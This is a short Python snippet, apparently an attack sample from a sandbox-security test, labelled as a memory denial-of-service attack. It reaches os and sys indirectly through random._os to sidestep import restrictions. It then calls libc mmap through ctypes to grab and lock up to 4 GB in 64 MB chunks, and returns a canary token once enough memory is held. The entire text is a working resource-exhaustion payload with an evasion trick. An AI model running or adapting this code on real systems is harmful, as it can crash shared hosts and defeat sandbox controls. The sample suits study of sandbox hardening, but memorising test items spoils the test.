# META {"kind": "dos", "goal": "memory", "args": [], "slots": {"name": "mallory"}}
import random
def m(self):
    os = random._os
    sys = os.sys
    mmap = sys.modules.get("mmap")
    libc = sys.modules["ctypes"].CDLL(None)
    libc.mmap.restype = sys.modules["ctypes"].c_long
    held = 0
    for _ in range(64):
        at = libc.mmap(0, 64 << 20, 3, 0x22 | 0x4000 | 0x8000, -1, 0)
        if at in (-1, 0):
            break
        held += 64
    return "L1:" + ("VSECRET-4711" if held > 512 else str(held))
